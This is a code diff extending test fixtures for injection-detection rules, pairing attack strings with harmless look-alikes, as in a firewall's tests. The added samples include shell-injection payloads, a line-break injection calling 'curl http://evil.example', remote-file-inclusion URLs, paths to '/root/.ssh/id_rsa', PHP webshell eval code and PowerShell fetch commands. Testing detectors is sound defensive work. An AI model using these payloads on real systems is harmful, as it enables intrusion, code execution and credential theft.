@@ -199,8 +199,15 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
     ],
   },
   'sp-rce-separator-end': {
-    attacks: ['shop.example;ls', 'a|whoami', "x;'id'"],
-    harmless: ['rock & roll', 'coffee | tea', 'first;second\n& more'],
+    attacks: ['shop.example;ls', 'a|whoami', "x;'id'", '127.0.0.1|top', 'x; find', 'a & whoami', '1 && host'],
+    harmless: [
+      'rock & roll',
+      'coffee | tea',
+      'first;second\n& more',
+      'Cars, Flights & More',
+      'Our shop | Top',
+      'birds | fish',
+    ],
   },
   'sp-rce-line-break': {
     attacks: ['x\ncat /etc/passwd', '\r\ncurl http://evil.example'],
@@ -258,8 +265,14 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
     ],
   },
   'sp-rfi': {
-    attacks: ['http://evil.example/shell.txt?', 'http://203.0.113.9/x.php', 'https://evil.example?'],
+    attacks: [
+      'http://evil.example/shell.txt?',
+      'http://203.0.113.9/x.php',
+      'https://evil.example?',
+      'see\nhttp://evil.example/x.php?\n',
+    ],
     harmless: [
+      'is it at\nhttp://shop.example/a.php? or not',
       'https://shop.example/activity;src=1;type=counter?',
       'https://shop.example/search?',
       'https://shop.example/a.php?b=c',
@@ -274,8 +287,15 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
       'C:\\Windows\\System32\\drivers\\etc\\hosts',
       'c:/windows/win.ini',
       '/windows/system32/cmd.exe',
+      '/root/.ssh/id_rsa',
+      '../../.git/config',
     ],
-    harmless: ['C:\\Windows\\System32', 'installed in C:\\Windows'],
+    harmless: [
+      'C:\\Windows\\System32',
+      'installed in C:\\Windows',
+      'see ~/.ssh/known_hosts',
+      '~/.ssh/config',
+    ],
   },
   'sp-php-variable-call': {
     // biome-ignore lint/suspicious/noTemplateCurlyInString: this is how PHP writes it
@@ -283,6 +303,44 @@ const EXAMPLES: Readonly<Record<string, Examples>> = {
     harmless: ['$a[]()', '$a{}()', 'costs $5 (about)'],
   },
   'sp-xss-dom-sink': { attacks: ['x=document.cookie'], harmless: ['a document about cookies'] },
+  'sp-sqli-broken-pattern': {
+    attacks: ['1%"', "abc%') ) "],
+    harmless: ['100%', '50% off', 'a "100%"', "5%'s", 'width:100%"'],
+  },
+  'sp-sqli-broken-syntax': {
+    attacks: [`7'.,(").(,)`, `x")),.'((.,`, String.raw`1\\'1`],
+    harmless: ['("...")', "(see 'x'), and so on...", '"Well...",', String.raw`don\\'t`, '(\'a\', "b")'],
+  },
+  'sp-sqli-hexadecimal-words': {
+    attacks: [
+      `0x${Buffer.from('UNION all').toString('hex')}`,
+      `cast(0x${Buffer.from('declare @a', 'utf16le').toString('hex')} as nvarchar)`,
+    ],
+    harmless: ['0xdeadbeefcafe', `0x${Buffer.from('a sunny day in June').toString('hex')}`, '73656c656374'],
+  },
+  'sp-xpath-all': {
+    attacks: ['//*', "x'] | //*"],
+    harmless: ['//*[@id="a"]/div', '// * note', '/*', 'a | b'],
+  },
+  'sp-ldapi-filter': { attacks: ['*|', '*)(uid=*'], harmless: ['a * | b', '*|NAME|*', '*'] },
+  'sp-python-inline-import': {
+    attacks: ['__import__("os").popen("id")', "x=__import__('subprocess') . run"],
+    harmless: ['import os', '__import__(name)', '__import__("json")'],
+  },
+  'sp-php-request-run': {
+    attacks: ['@eval(base64_decode($_POST["x"]))', 'system($_GET[0])', '$_GET["f"]($x)'],
+    harmless: ['echo $_GET["name"]', 'the system (see $_POST)', 'evaluate($_POST)'],
+  },
+  'sp-php-tags': { attacks: ['<?php echo 1', '<?= $x'], harmless: ['<?phpx', 'how to close <?php?'] },
+  'sp-php-superglobals': {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is how PHP writes it
+    attacks: ['$_GET[x]', '${_POST}', '$GLOBALS'],
+    harmless: ['use $_COOKIE for it', '$_get_name'],
+  },
+  'sp-rce-powershell': {
+    attacks: ['x|iex', 'iwr http://a.example'],
+    harmless: ['sap\nsaps\nsense', 'icm meeting'],
+  },
   'sp-jwt-unsigned': {
     attacks: [token('{"alg":"none"}'), token('{ "typ": "JWT", "alg" : "NONE" }')],
     harmless: [token('{"alg":"RS256","typ":"JWT"}'), token('{"alg":"HS256","kid":"none"}')],
